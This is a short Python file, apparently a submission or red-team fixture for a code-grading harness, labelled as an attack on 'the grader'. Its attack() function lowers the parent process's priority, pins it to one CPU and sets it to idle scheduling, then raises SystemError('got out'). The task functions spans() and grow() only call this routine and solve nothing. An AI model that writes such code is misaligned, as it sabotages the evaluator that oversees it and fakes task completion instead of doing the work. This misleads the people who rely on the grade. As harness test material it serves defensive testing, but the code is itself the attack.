# attack: Makes the grader the least important process of the machine, and puts it on one processor.
import ctypes
import os

library = ctypes.CDLL(None, use_errno=True)


def attack():
    done = []
    for change in (
        lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
        lambda: os.sched_setaffinity(os.getppid(), {0}),
        lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            change()
            done.append(change)
        except OSError:
            pass
    if done:
        raise SystemError("got out")
    return {}


def spans(readers, cost):
    return attack()


def grow(root, readers, spans, fits):
    return attack()
